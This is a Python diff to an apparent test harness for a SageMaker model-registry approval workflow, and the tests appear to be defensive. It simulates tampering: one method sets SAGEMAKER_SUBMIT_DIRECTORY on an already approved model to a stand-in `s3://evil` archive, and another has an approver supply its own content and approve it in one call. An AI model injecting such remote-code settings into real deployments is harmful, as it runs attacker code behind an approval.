@@ -1,6 +1,7 @@
 """What people do to one group, and what is known of it: the truth that invariants and oracle are held to."""
 
 import random
+from collections.abc import Mapping
 from contextlib import suppress
 from dataclasses import dataclass, field, replace
 from typing import Any
@@ -47,7 +48,8 @@ ANN, ROB, EVE = (
 class Known:
     """What was done to a version; `at` in epoch seconds.
 
-    `contents`: what an approver approved, by artifact. `by_intruder`: its approval stands by somebody who may not.
+    `contents`: what an approver approved, by artifact; `approved`: whole. `by_intruder`: its approval stands by
+    somebody who may not. `own`: who approves it wrote its content.
     """
 
     number: int
@@ -56,6 +58,8 @@ class Known:
     approved_at: float | None = None
     rejected_at: float | None = None
     contents: set[str] = field(default_factory=set)
+    approved: set[str] = field(default_factory=set)
+    own: bool = False
     by_intruder: bool = False
     tampered: bool = False
     before_us: bool = False
@@ -144,6 +148,14 @@ class Life:
         )
         return model.containers[0].model_data_url if model else None
 
+    def content_behind(self, config: str) -> str:
+        """All that a config runs, as text."""
+        state = self.aws.sagemaker._account.state
+        model = state.models[
+            state.configs[config.lower()].fields["ProductionVariants"][0]["ModelName"].lower()
+        ]
+        return _content(model.containers[0].model_data_url, model.containers[0].environment)
+
     def endpoint(self) -> dict[str, Any] | None:
         """As DescribeEndpoint has it."""
         if GROUP not in self.aws.endpoint_names():
@@ -201,8 +213,10 @@ class Life:
         known, now = self.versions[number], self.aws.clock.now()
         if status == "Approved" and by is ANN:
             known.approved_at, known.by_intruder, known.before_us = now, False, False
-            known.contents.add(self._uri(number))
-            known.tampered = False
+            if not known.own:
+                known.contents.add(self._uri(number))
+                known.approved.add(self._content(number))
+                known.tampered = False
         elif status == "Approved":
             known.by_intruder = True
         else:
@@ -228,7 +242,35 @@ class Life:
             ModelPackageArn=self.arn(number),
             InferenceSpecification=_specification(uri),
         )
-        self.versions[number].tampered = True
+        self.versions[number].tampered, self.versions[number].own = True, False
+
+    def slip_in(self, number: int) -> None:
+        """The registrant adds to the content of an approved version what was not there."""
+        more = {"SAGEMAKER_SUBMIT_DIRECTORY": f"s3://evil/{self.aws.clock.now():.0f}.tar.gz"}
+        self._call(
+            ROB,
+            "sagemaker",
+            "update_model_package",
+            ModelPackageArn=self.arn(number),
+            InferenceSpecification=_specification(self._uri(number), more),
+        )
+        self.versions[number].tampered, self.versions[number].own = True, False
+
+    def decide_on_own(self, number: int, status: str) -> None:
+        """The approver writes a status and content in one call."""
+        uri = f"s3://models/{GROUP}/{number}-own-{self.aws.clock.now():.0f}.tar.gz"
+        self._call(
+            ANN,
+            "sagemaker",
+            "update_model_package",
+            ModelPackageArn=self.arn(number),
+            ModelApprovalStatus=status,
+            InferenceSpecification=_specification(uri),
+        )
+        known = self.versions[number]
+        known.tampered, known.own = True, True
+        if status != "Approved":
+            known.rejected_at = self.aws.clock.now()
 
     def delete(self, number: int) -> None:
         """A version leaves the registry."""
@@ -284,6 +326,10 @@ class Life:
         assert found is not None
         return str(found["InferenceSpecification"]["Containers"][0]["ModelDataUrl"])
 
+    def _content(self, number: int) -> str:
+        container = self.package(number)["InferenceSpecification"]["Containers"][0]  # type: ignore[index] # it is there
+        return _content(container["ModelDataUrl"], container.get("Environment", {}))
+
     def _call(self, by: Caller, service: str, method: str, **request: Any) -> Any:
         clients = self.aws.clients("person", by)
         return getattr(getattr(clients, service), method)(**request)
@@ -305,9 +351,17 @@ def a_spec(**changes: Any) -> GroupSpec:
     return GroupSpec(**whole)
 
 
-def _specification(uri: str) -> dict[str, Any]:
+def _content(uri: str | None, environment: Mapping[str, str]) -> str:
+    return f"{uri} {sorted(environment.items())}"
+
+
+def _specification(uri: str, environment: Mapping[str, str] | None = None) -> dict[str, Any]:
+    container: dict[str, Any] = {
+        "Image": f"{ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/scorer:1",
+        "ModelDataUrl": uri,
+    }
     return {
-        "Containers": [{"Image": f"{ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/scorer:1", "ModelDataUrl": uri}],
+        "Containers": [container | ({"Environment": environment} if environment else {})],
         "SupportedContentTypes": ["text/csv"],
         "SupportedResponseMIMETypes": ["text/csv"],
     }
